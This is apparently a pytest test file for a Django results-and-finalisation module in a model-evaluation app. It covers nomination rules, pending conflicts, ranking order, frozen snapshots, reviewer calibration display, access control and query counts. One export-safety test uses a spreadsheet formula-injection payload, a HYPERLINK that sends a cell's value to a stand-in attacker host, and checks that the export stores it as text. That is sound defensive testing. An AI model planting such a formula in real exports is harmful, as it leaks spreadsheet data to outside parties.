"""Results and finalisation as the secretariat reaches them: the nomination rule, pending
conflicts, one order for live and finalised results, a frozen snapshot, safe exports."""

import io

import pytest
from django.db import connection
from django.template.defaultfilters import floatformat
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import escape
from django.utils.translation import gettext, ngettext
from openpyxl import load_workbook

from danvan.enums import UnitKind
from evaluation import selectors, services
from evaluation.enums import Aggregation, ConflictStatus, RankBy, RoundStatus
from evaluation.exports import calibration_warnings
from evaluation.models import Assignment, Result, Round, RoundEntry, ScoreSheet
from models_registry.models import DvkModel
from tests.factories import (
    CommitteeFactory,
    CommitteeMemberFactory,
    RoundEntryFactory,
    RoundFactory,
    UnitFactory,
)
from tests.factories.evaluation import fill_sheet, sheet_of, single_criterion_rubric
from tests.factories.registry import days

from .helpers import scored_round

pytestmark = pytest.mark.django_db


def _results_url(round_, **query):
    url = reverse("evaluation:round_results", args=[round_.pk])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def _xlsx_rows(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.content))
    return list(book.active.iter_rows(values_only=True))


# --- Nomination: one rule for the page and the POST ---------------------------------------


def test_nominate_crafted_post_in_provincial_round_refused(client, people, round_, committee):
    """Issue 7: the page hides "nominate" in a provincial round; a crafted POST must not
    nominate either (the rule, not the template, has the condition)."""
    scored_round(round_, committee, [[95]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    result = Result.objects.get(round=round_)
    assert result.recognised
    client.force_login(people.secretariat)

    page = client.get(_results_url(round_))
    response = client.post(
        reverse("evaluation:result_nominate", args=[round_.pk, result.pk]), {"nominated": "1"}
    )

    assert page.context["can_nominate"] is False
    assert response.status_code == 404
    assert RoundEntry.objects.get(pk=result.entry_id).nominated is False


def test_nominate_commune_round_page_offers_it_and_post_nominates(
    client, people, campaign, commune
):
    commune_round = services.round_create(
        campaign=campaign,
        scope_unit=commune,
        by=people.secretariat,
        data={
            "name": "Đợt chấm cấp xã",
            "rubric_collective": single_criterion_rubric(organiser=commune),
            "scoring_opens": days(-1),
            "scoring_closes": days(5),
        },
    )
    village = UnitFactory(parent=commune, kind=UnitKind.RESIDENTIAL)
    scored_round(
        commune_round, CommitteeFactory(unit=commune), [[95]], by=people.secretariat, unit=village
    )
    services.round_finalise(round=commune_round, by=people.secretariat)
    result = Result.objects.get(round=commune_round)
    client.force_login(people.secretariat)

    page = client.get(_results_url(commune_round))
    client.post(
        reverse("evaluation:result_nominate", args=[commune_round.pk, result.pk]),
        {"nominated": "1"},
    )

    assert page.context["can_nominate"] is True
    assert RoundEntry.objects.get(pk=result.entry_id).nominated is True


# --- Finalising with conflicts pending ----------------------------------------------------


@pytest.fixture
def declared(round_, committee, people):
    """An open round of two scored models where one reviewer declared a conflict (after
    submitting) that nobody has decided yet."""
    entries, _members = scored_round(round_, committee, [[90], [60]], by=people.secretariat)
    assignment = Assignment.objects.get(entry=entries[0])
    Assignment.objects.filter(pk=assignment.pk).update(
        conflict_status=ConflictStatus.DECLARED, conflict_reason="Người nhà"
    )
    return assignment


def test_round_finalise_with_pending_conflict_refused(round_, people, declared):
    """Issue 8 item 6: a sheet whose conflict is declared but not decided would be frozen
    into the result, and the conflict could never be decided afterwards."""
    with pytest.raises(services.EvaluationError) as caught:
        services.round_finalise(round=round_, by=people.secretariat, force=True)

    assert "1" in str(caught.value)
    round_.refresh_from_db()
    assert round_.status == RoundStatus.OPEN
    assert not Result.objects.filter(round=round_).exists()


def test_finalise_page_lists_pending_conflicts_with_links(client, round_, people, declared):
    """Issue 8 item 6: the confirmation page names each pending conflict and links to it."""
    client.force_login(people.secretariat)
    url = reverse("evaluation:round_finalise", args=[round_.pk])

    page = client.get(url)
    response = client.post(url, {"force": "on"})

    assert list(page.context["conflicts"]) == [declared]
    link = reverse("evaluation:round_assignments", args=[round_.pk]) + f"#conflict-{declared.pk}"
    assert link in page.content.decode()
    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    round_.refresh_from_db()
    assert round_.status == RoundStatus.OPEN


def test_round_finalise_after_conflict_decided_succeeds(round_, people, declared):
    services.assignment_resolve_conflict(assignment=declared, approve=False, by=people.secretariat)

    services.round_finalise(round=round_, by=people.secretariat)

    round_.refresh_from_db()
    assert round_.status == RoundStatus.FINALISED


def test_finalise_page_post_on_finalised_round_404(client, round_, committee, people):
    """A finalised round cannot be finalised again, by the page either."""
    scored_round(round_, committee, [[90]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    client.force_login(people.secretariat)

    response = client.post(reverse("evaluation:round_finalise", args=[round_.pk]), {})

    assert response.status_code == 404
    assert Result.objects.filter(round=round_).count() == 1


# --- One order for live and finalised results ---------------------------------------------


def test_final_results_same_order_as_live_groups_ties_unscored_last(
    campaign, committee, people, province
):
    """Issue 8 item 7: collectives then individuals, each by rank, unscored entries last and
    ties by entry — live and finalised alike, on SQLite and PostgreSQL."""
    round_ = RoundFactory(
        campaign=campaign,
        created_by=people.secretariat,
        rubric_individual=single_criterion_rubric(organiser=province, applies_to="individual"),
        admit_individual_exemplars=True,
    )
    collectives, _ = scored_round(round_, committee, [[80], [80], [None]], by=people.secretariat)
    individuals, _ = scored_round(round_, committee, [[90]], by=people.secretariat, individual=True)
    # Names that would sort the tie the other way round.
    DvkModel.objects.filter(pk=collectives[0].dvk_model_id).update(name="Zz mô hình")
    DvkModel.objects.filter(pk=collectives[1].dvk_model_id).update(name="Aa mô hình")
    expected = [collectives[0].pk, collectives[1].pk, collectives[2].pk, individuals[0].pk]

    live = [row.entry_id for row in selectors.round_results(round=round_)]
    services.round_finalise(round=round_, by=people.secretariat)
    final = [row.entry_id for row in selectors.final_results(round=round_)]

    assert live == expected
    assert final == expected
    assert [r.rank for r in selectors.final_results(round=round_)] == [1, 1, None, 1]


# --- A finalised round's page and export do not change ------------------------------------


def _snapshot(client, round_):
    page = client.get(_results_url(round_))
    rows = [
        (r.entry_id, r.rank, r.score_used, r.tier_name, r.recognised) for r in page.context["rows"]
    ]
    return (
        rows,
        dict(page.context["policy"]),
        _xlsx_rows(client.get(_results_url(round_, format="xlsx"))),
    )


def test_finalised_results_page_and_export_cannot_change_afterwards(
    client, round_, committee, people
):
    """Issue 8 item 8: neither the forms and services nor a change that bypasses them
    (the round's policy, a sheet's total) changes a finalised round's page or export: they
    read the snapshot, with the policy captured at finalisation."""
    scored_round(round_, committee, [[90, 70], [60, 64]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    client.force_login(people.secretariat)
    before = _snapshot(client, round_)

    form_post = client.post(
        reverse("evaluation:round_update", args=[round_.pk]),
        {"name": round_.name, "aggregation": Aggregation.MEDIAN, "rank_by": RankBy.CALIBRATED},
    )
    with pytest.raises(services.EvaluationError):
        services.round_update(
            round=round_, by=people.secretariat, data={"aggregation": Aggregation.MEDIAN}
        )
    with pytest.raises(services.EvaluationError):
        services.round_finalise(round=round_, by=people.secretariat)
    Round.objects.filter(pk=round_.pk).update(
        aggregation=Aggregation.MEDIAN, rank_by=RankBy.CALIBRATED
    )
    ScoreSheet.objects.filter(assignment__round=round_).update(total=5)
    after = _snapshot(client, round_)

    assert form_post.status_code == 404
    assert after == before
    assert before[1]["rank_by"] == RankBy.RAW
    assert before[2][1][0] == gettext("Ranked by: %(rank_by)s; aggregation: %(aggregation)s") % {
        "rank_by": RankBy.RAW.label,
        "aggregation": Aggregation.MEAN.label,
    }


# --- Export and bulk input ----------------------------------------------------------------


def test_results_xlsx_model_name_starting_with_equals_is_text(client, round_, committee, people):
    """Issue 8 item 9: a model name starting with "=" is a text cell, never a formula."""
    entries, _ = scored_round(round_, committee, [[88]], by=people.secretariat)
    name = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    DvkModel.objects.filter(pk=entries[0].dvk_model_id).update(name=name)
    client.force_login(people.secretariat)

    response = client.get(_results_url(round_, format="xlsx"))

    book = load_workbook(io.BytesIO(response.content))
    cell = book.active.cell(row=5, column=2)
    assert cell.data_type == "s"
    assert cell.value == "'" + name
    assert response["Content-Disposition"].startswith("attachment;")


def test_bulk_assign_unicode_digit_ids_show_error_not_500(client, people, round_, members):
    """Issue 8 item 14: "²".isdigit() is true but int("²") fails."""
    RoundEntryFactory(round=round_)
    client.force_login(people.secretariat)

    response = client.post(
        reverse("evaluation:assignments_bulk", args=[round_.pk]),
        {"entries": ["²"], "reviewers": ["³", str(members[0].user.pk)]},
    )

    assert response.status_code == 200
    assert response.context["bulk_form"].errors["entries"]
    assert response.context["checked_reviewers"] == {members[0].user.pk}
    assert not Assignment.objects.filter(round=round_).exists()


# --- Issue 12: the calibration explained, raw tiers, drill-down links, provisional -------


def _page(client, user, round_, **query):
    client.force_login(user)
    response = client.get(_results_url(round_, **query))
    assert response.status_code == 200
    return response


def _reviewers(client, user, round_):
    """The reviewers' section the results page loads when it comes into view."""
    client.force_login(user)
    response = client.get(reverse("evaluation:round_results_reviewers", args=[round_.pk]))
    assert response.status_code == 200
    return response


def _leniency_text(leniency) -> str:
    """How the page writes a reviewer's leniency ("+3,2 ± 1,1 điểm")."""
    sign = "+" if leniency.leniency > 0 else ""
    return sign + gettext("%(value)s ± %(uncertainty)s points") % {
        "value": floatformat(leniency.leniency, 1),
        "uncertainty": floatformat(leniency.uncertainty, 1),
    }


def test_results_page_secretariat_sees_each_reviewers_leniency_and_few_sheets_warning(
    client, people, round_, committee
):
    """Reviewer 0 scores 20 points above reviewer 1 on the same models; reviewer 2 scored
    one sheet: the page gives each one's leniency, the sheets it rests on, and warns."""
    _entries, members = scored_round(
        round_, committee, [[90, 70, None], [80, 60, None], [85, 65, 75]], by=people.secretariat
    )
    summary = selectors.calibration_summary(round=round_)
    found = {r.reviewer.pk: r for r in summary.groups[0].reviewers}

    page = _page(client, people.secretariat, round_).content.decode()
    content = _reviewers(client, people.secretariat, round_).content.decode()

    assert gettext("What is the calibrated score?") in page
    for member in members:
        leniency = found[member.user.pk]
        assert str(member.user) in content
        assert _leniency_text(leniency) in content
        sheets = ngettext("on %(counter)s sheet", "on %(counter)s sheets", leniency.sheets)
        assert sheets % {"counter": leniency.sheets} in content
    assert found[members[0].user.pk].leniency > 0 > found[members[1].user.pk].leniency
    assert [r.reviewer for r in summary.groups[0].few_sheet_reviewers] == [members[2].user]
    (warning,) = calibration_warnings(summary.groups[0])
    assert str(members[2].user) in warning
    assert escape(warning) in content


def test_results_page_two_reviewer_groups_sharing_no_model_warns(client, people, round_, committee):
    scored_round(
        round_,
        committee,
        [[80, 70, None, None], [82, 72, None, None], [None, None, 90, 60], [None, None, 88, 62]],
        by=people.secretariat,
    )
    warning = gettext(
        "The reviewers form %(groups)s groups that scored no model in common: biases "
        "are not comparable between groups, and the calibrated ranking across groups is "
        "not reliable."
    ) % {"groups": 2}

    content = _reviewers(client, people.secretariat, round_).content.decode()

    assert selectors.calibration_summary(round=round_).groups[0].groups == 2
    assert escape(warning) in content


def test_results_page_loads_the_reviewers_section_when_it_comes_into_view(
    client, people, round_, committee
):
    """The page itself reads no sheet for the reviewers' figures: its section asks the
    reviewers' URL for them once it is revealed."""
    _entries, members = scored_round(round_, committee, [[90, 70]], by=people.secretariat)
    url = reverse("evaluation:round_results_reviewers", args=[round_.pk])

    page = _page(client, people.secretariat, round_).content.decode()
    section = _reviewers(client, people.secretariat, round_).content.decode()

    assert 'id="reviewers-title"' in page
    assert f'hx-get="{url}"' in page
    assert str(members[0].user) not in page
    assert 'id="reviewers-title"' in section
    assert str(members[0].user) in section and str(members[1].user) in section


def test_results_reviewers_of_a_round_without_reviewers_is_empty(client, people, round_):
    """Nothing to show: the answer replaces the page's placeholder section with nothing."""
    assert _reviewers(client, people.secretariat, round_).content.decode().strip() == ""


def test_results_reviewers_anonymous_is_sent_to_login(client, round_):
    url = reverse("evaluation:round_results_reviewers", args=[round_.pk])

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("who", ["other_secretariat", "leader", "officer"])
def test_results_reviewers_out_of_scope_or_other_role_is_404(
    client, people, round_, committee, who
):
    """Another province's secretariat, a leader (even of a finalised round: the section
    names reviewers) and a unit officer get 404."""
    scored_round(round_, committee, [[80, 70]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    client.force_login(getattr(people, who))

    response = client.get(reverse("evaluation:round_results_reviewers", args=[round_.pk]))

    assert response.status_code == 404


def test_results_page_leader_sees_explanation_without_reviewer_names_or_sheet_links(
    client, people, round_, committee
):
    entries, members = scored_round(round_, committee, [[90, 50], [80, 78]], by=people.secretariat)
    services.round_finalise(round=round_, by=people.secretariat)
    sheets_url = reverse("evaluation:entry_sheets", args=[round_.pk, entries[0].pk])

    leader = _page(client, people.leader, round_)
    secretariat = _page(client, people.secretariat, round_)

    content = leader.content.decode()
    assert gettext("What is the calibrated score?") in content
    assert "calibration" not in leader.context
    for member in members:
        assert str(member.user) not in content
    assert 'id="reviewers-title"' not in content
    assert sheets_url not in content
    assert entries[0].dvk_model.get_absolute_url() in content
    assert sheets_url in secretariat.content.decode()


def test_results_page_model_links_and_flag_links_to_sheets(client, people, round_, committee):
    """Each row links its model to the model's page; for the secretariat a "sheets" link,
    and a disagreement flag that is itself the link to the entry's sheets."""
    entries, _members = scored_round(round_, committee, [[95, 40], [80, 78]], by=people.secretariat)
    flagged = reverse("evaluation:entry_sheets", args=[round_.pk, entries[0].pk])
    calm = reverse("evaluation:entry_sheets", args=[round_.pk, entries[1].pk])

    content = _page(client, people.secretariat, round_).content.decode()

    assert f'<a class="badge text-bg-warning" href="{flagged}"' in content
    assert f'href="{calm}"' in content
    assert f'<a class="badge text-bg-warning" href="{calm}"' not in content
    for entry in entries:
        assert f'href="{entry.dvk_model.get_absolute_url()}"' in content


def test_results_page_raw_tier_shown_only_where_it_differs(client, people, round_, committee):
    """Ranked by the calibrated score: a lenient reviewer's lone 82 falls below Tốt once
    their leniency is taken off, so that row shows its raw tier; the others do not."""
    Round.objects.filter(pk=round_.pk).update(rank_by=RankBy.CALIBRATED)
    round_.refresh_from_db()
    scored_round(
        round_,
        committee,
        [[95, 75], [94, 74], [96, 76], [93, 73], [92, 72], [82, None]],
        by=people.secretariat,
    )
    rows = selectors.round_results(round=round_)
    differing = [r for r in rows if r.raw_tier != r.tier]

    response = _page(client, people.secretariat, round_)

    content = response.content.decode()
    assert [(r.raw_tier.name, r.tier.name) for r in differing] == [("Tốt", "Khá")]
    assert response.context["tier_changes"] == 1
    marker = gettext("(raw score: %(tier)s)")
    assert content.count(escape(marker % {"tier": "Tốt"})) == 1
    assert content.count('class="raw-tier"') == 1


def test_results_page_provisional_banner_says_what_is_left_then_goes(
    client, people, round_, committee, declared
):
    """Two sheets submitted and one conflict undecided (``declared``); a third assignment
    not started: the banner counts them; once all is in, a quiet note; once finalised,
    nothing."""
    entry = declared.entry
    spare = CommitteeMemberFactory(committee=committee).user
    extra = services.assignment_add(entry=entry, reviewer=spare, by=people.secretariat)

    before = _page(client, people.secretariat, round_)

    content = before.content.decode()
    assert gettext("PROVISIONAL") in content
    sheets = ngettext(
        "%(counter)s sheet is not submitted yet (%(in_progress)s in progress, "
        "%(not_started)s not started).",
        "%(counter)s sheets are not submitted yet (%(in_progress)s in progress, "
        "%(not_started)s not started).",
        1,
    ) % {"counter": 1, "in_progress": 0, "not_started": 1}
    conflicts = ngettext(
        "%(counter)s conflict of interest is not decided yet.",
        "%(counter)s conflicts of interest are not decided yet.",
        1,
    ) % {"counter": 1}
    assert sheets in content
    assert conflicts in content

    fill_sheet(sheet_of(extra), 85)
    services.assignment_resolve_conflict(assignment=declared, approve=False, by=people.secretariat)
    complete = _page(client, people.secretariat, round_).content.decode()
    services.round_finalise(round=round_, by=people.secretariat)
    final = _page(client, people.secretariat, round_).content.decode()

    all_in = gettext(
        "All sheets are in. The results become final when the secretariat finalises the round."
    )
    assert gettext("PROVISIONAL") not in complete
    assert all_in in complete
    assert gettext("PROVISIONAL") not in final
    assert all_in not in final


@pytest.mark.parametrize("who", ["secretariat", "leader"])
def test_finalised_results_page_and_export_query_count_same_for_1_and_30_entries(
    client, people, campaign, committee, who
):
    counts = []
    for n in (1, 30):
        round_ = RoundFactory(campaign=campaign, created_by=people.secretariat)
        scored_round(round_, committee, [[80, 70]] * n, by=people.secretariat)
        services.round_finalise(round=round_, by=people.secretariat)
        client.force_login(getattr(people, who))
        with CaptureQueriesContext(connection) as page:
            assert client.get(_results_url(round_)).status_code == 200
        with CaptureQueriesContext(connection) as export:
            assert client.get(_results_url(round_, format="xlsx")).status_code == 200
        counts.append((len(page), len(export)))
    assert counts[0] == counts[1]
